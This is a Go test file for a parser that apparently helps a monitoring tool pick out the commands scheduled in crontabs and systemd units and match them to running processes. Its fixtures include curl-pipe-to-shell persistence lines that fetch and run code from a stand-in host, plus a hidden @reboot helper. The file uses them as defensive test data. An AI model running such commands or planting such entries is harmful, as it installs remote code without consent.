package orders

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/clawwatch/clawwatch/internal/event"
)

func texts(all []Order) string {
	var b strings.Builder
	for _, o := range all {
		fmt.Fprintf(&b, "%s|%v\n", o.Text, o.Loose)
	}
	return b.String()
}

func TestACrontabsCommandsAreFound(t *testing.T) {
	const user = `# comment
SHELL=/bin/bash
MAILTO = ""
*/5 * * * *   curl -s http://198.51.100.1/x=y | sh
@reboot /home/dev/.cache/helper --quiet
0 9 * * 1-5	date +\%F > /tmp/day
1 2 3 4 5
`
	want := "curl -s http://198.51.100.1/x=y | sh|false\n/home/dev/.cache/helper --quiet|false\ndate +|true\n"
	if got := texts(Parse("/var/spool/cron/crontabs/dev", user)); got != want {
		t.Errorf("got\n%s", got)
	}
	if got := texts(Parse("/etc/cron.d/x", "* * * * * root /usr/bin/true\n@daily dev sync it\n")); got != "/usr/bin/true|false\nsync it|false\n" {
		t.Errorf("got\n%s", got)
	}
	if got := texts(Parse("/etc/anacrontab", "7 10 job.weekly run-parts /etc/cron.weekly\n")); got != "run-parts /etc/cron.weekly|false\n" {
		t.Errorf("got\n%s", got)
	}
}

func TestAUnitsCommandsAreFound(t *testing.T) {
	const text = `[Unit]
Description=Exec is not here
[Service]
ExecStartPre=-/usr/bin/mkdir -p /run/x
ExecStart=/bin/sh -c 'curl -s http://198.51.100.1/ | sh' ; /usr/bin/true
ExecStop=@/usr/bin/kill name $MAINPID
ExecStart=
ExecReload=/opt/long \
  --option
`
	want := "/usr/bin/mkdir -p /run/x|false\n/bin/sh -c 'curl -s http://198.51.100.1/ | sh'|false\n/usr/bin/true|false\n/usr/bin/kill name $MAINPID|true\n/opt/long    --option|false\n"
	if got := texts(Parse("/home/dev/.config/systemd/user/x.service", text)); got != want {
		t.Errorf("got\n%s", got)
	}
}

func TestWhatObeysAnOrder(t *testing.T) {
	sh := func(said string) event.Exec {
		return event.Exec{Path: "/usr/bin/dash", Args: []string{"/bin/sh", "-c", said}}
	}
	cron := Parse("/var/spool/cron/crontabs/dev", "* * * * * echo hi > /tmp/x\n* * * * * date +%F\n")
	unit := Parse("/etc/systemd/system/x.service", "ExecStart=/opt/tool --a 'b c'\nExecStart=/opt/other $ARGS\n")
	for _, c := range []struct {
		order Order
		exec  event.Exec
		want  bool
	}{
		{cron[0], sh("echo hi > /tmp/x"), true},
		{cron[0], sh("echo hi > /tmp/xy"), false},
		{cron[0], event.Exec{Path: "/usr/bin/echo", Args: []string{"echo", "hi"}}, false},
		{cron[1], sh("date +"), true},
		{cron[1], sh("uptime"), false},
		{unit[0], event.Exec{Path: "/opt/tool", Args: []string{"/opt/tool", "--a", "b c"}}, true},
		{unit[0], event.Exec{Path: "/usr/bin/bash", Script: true, Name: "/opt/tool", Args: []string{"/bin/bash", "/opt/tool", "--a", "b c"}}, true},
		{unit[0], event.Exec{Path: "/opt/tool", Args: []string{"/opt/tool", "--a"}}, false},
		{unit[1], event.Exec{Path: "/opt/other", Args: []string{"/opt/other", "1", "2"}}, true},
		{unit[1], event.Exec{Path: "/opt/tool", Args: []string{"/opt/tool"}}, false},
		{Order{}, event.Exec{}, false},
	} {
		if got := c.order.Obeys(c.exec); got != c.want {
			t.Errorf("%q obeyed by %q: %v", c.order.Text, c.exec.Args, got)
		}
	}
}

func TestAHostileFileIsBounded(t *testing.T) {
	dir := t.TempDir()
	big := filepath.Join(dir, "crontab")
	if err := os.WriteFile(big, []byte(strings.Repeat("* * * * * true\n", 1<<16)), 0o600); err != nil {
		t.Fatal(err)
	}
	if all, cut, err := Read(big); err != nil || !cut || len(all) != maxOrders {
		t.Errorf("%d orders, cut %v, %v", len(all), cut, err)
	}
	fifo := filepath.Join(dir, "fifo")
	if err := unix.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link")
	if err := os.Symlink(big, link); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{fifo, link, dir, filepath.Join(dir, "none")} {
		if _, _, err := Read(f); err == nil {
			t.Errorf("%s was read", f)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("/etc/crontab", "* * * * * root x")
	f.Add("/x/systemd/y", "ExecStart=a 'b")
	f.Fuzz(func(t *testing.T, file, text string) {
		for _, o := range Parse(file, text) {
			o.Obeys(event.Exec{Path: text, Args: []string{file, "-c", text}})
		}
	})
}

// As systemd 252 writes what systemd-run was told.
func TestAUnitThatSystemdWroteSaysWhatItWasAskedFor(t *testing.T) {
	const text = `# This is a transient unit file, created programmatically via the systemd API. Do not edit.
[Unit]
Description=/usr/bin/sh -c echo "a b" $HOME 100%% > /tmp/x; sleep 5 two

[Service]
RemainAfterExit=yes
ExecStart=
ExecStart="/usr/bin/sh" "-c" "echo \"a b\" \$HOME 100%% > /tmp/x\; sleep 5" "two" "thr\"ee\\x" "" "\xc3\xa9\nx"
`
	all := Parse("/run/systemd/transient/run-r1.service", text)
	if len(all) != 1 || all[0].Loose {
		t.Fatalf("got %+v", all)
	}
	command := []string{"sh", "-c", "echo \"a b\" $HOME 100% > /tmp/x; sleep 5", "two", "thr\"ee\\x", "", "é\nx"}
	asked := append([]string{"systemd-run", "--remain-after-exit"}, command...)
	if !all[0].SaidIn(asked) || all[0].SaidIn(asked[:len(asked)-1]) || all[0].SaidIn(command) || all[0].SaidIn(append(asked, "more")) {
		t.Errorf("%q is not what was asked for", all[0].Words)
	}
	if !all[0].Obeys(event.Exec{Path: "/usr/bin/dash", Args: append([]string{"/usr/bin/sh"}, command[1:]...)}) {
		t.Error("what it starts is not known for it")
	}
}

// Of what systemd-run is told systemd still takes $$ for $, unless the unit says otherwise.
func TestADollarIsSaidTwiceAndHandedOverOnce(t *testing.T) {
	for _, c := range []struct{ text, asked, run string }{
		{`"/bin/sh" "-c" "echo \$\$"`, "echo $$", "echo $"},
		{`:"/bin/sh" "-c" "echo \$\$ \${X}"`, "echo $$ ${X}", "echo $$ ${X}"},
	} {
		all := Parse("/run/systemd/transient/x.service", "ExecStart="+c.text)
		if len(all) != 1 || all[0].Loose || !all[0].Obeys(event.Exec{Path: "/bin/sh", Args: []string{"/bin/sh", "-c", c.run}}) {
			t.Errorf("%s gives %+v", c.text, all)
		}
		if !all[0].SaidIn([]string{"systemd-run", "sh", "-c", c.asked}) {
			t.Errorf("%s is not what was asked for", c.text)
		}
	}
	loose := Parse("/run/systemd/transient/x.service", `ExecStart="/bin/sh" "-c" "echo \${X}"`)
	if !loose[0].Loose || !loose[0].SaidIn([]string{"systemd-run", "sh", "-c", "echo ${X}"}) {
		t.Errorf("with a variable it is %+v", loose)
	}
}

func TestWhatSystemdFillsInIsNotGuessed(t *testing.T) {
	for text, want := range map[string]string{
		`/bin/a $ARGS`: "/bin/a|$ARGS loose", `/bin/a x${HOME}`: "/bin/a|x${HOME} loose", `/bin/a %h`: "/bin/a|%h loose", `/bin/a \q`: "/bin/a|\\q loose",
		`/bin/a x$HOME 100%% a$$b`: "/bin/a|x$HOME|100%|a$b", `@/bin/a "b" c`: "/bin/a|c", `-/bin/a 'b c'd`: "/bin/a|b cd", `/bin/a "open`: "/bin/a|open loose",
		`/bin/a \101\u00e9\x41`: "/bin/a|AéA", `/bin/a \x4`: "/bin/a|\\x4 loose", `/bin/a \`: "/bin/a|\\ loose",
	} {
		all := Parse("/etc/systemd/system/x.service", "ExecStart="+text)
		if len(all) != 1 {
			t.Fatalf("%s gives %v", text, all)
		}
		got := strings.Join(all[0].Words, "|")
		if all[0].Loose {
			got += " loose"
		}
		if got != want {
			t.Errorf("%s gives %s, want %s", text, got, want)
		}
	}
}

func TestServicesThatSystemdWasAskedForAreFound(t *testing.T) {
	run := t.TempDir()
	put := func(file string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(run, file)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(run, file), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	put("systemd/transient/a.service")
	put("systemd/transient/a.timer")
	put("user/1000/systemd/transient/b.service")
	put("user/1001/systemd/transient/c.service")
	put("user/1000/systemd/transient/d.service/x")
	got := strings.ReplaceAll(strings.Join(Services(run, 1000), " "), run, "")
	if got != "/systemd/transient/a.service /user/1000/systemd/transient/b.service" {
		t.Errorf("got %s", got)
	}
	if err := os.Mkdir(filepath.Join(run, "user/1002"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(run, "user/1001/systemd"), filepath.Join(run, "user/1002/systemd")); err != nil {
		t.Fatal(err)
	}
	if got := Services(run, 1002); len(got) != 1 {
		t.Errorf("a link leads to another user's: %v", got)
	}
}

func FuzzUnit(f *testing.F) {
	f.Add(`@/bin/sh "a\x41" 'b' %% $$ ${X}`)
	f.Fuzz(func(t *testing.T, s string) { Parse("/systemd/x.service", "ExecStart="+s) }) // must not panic
}
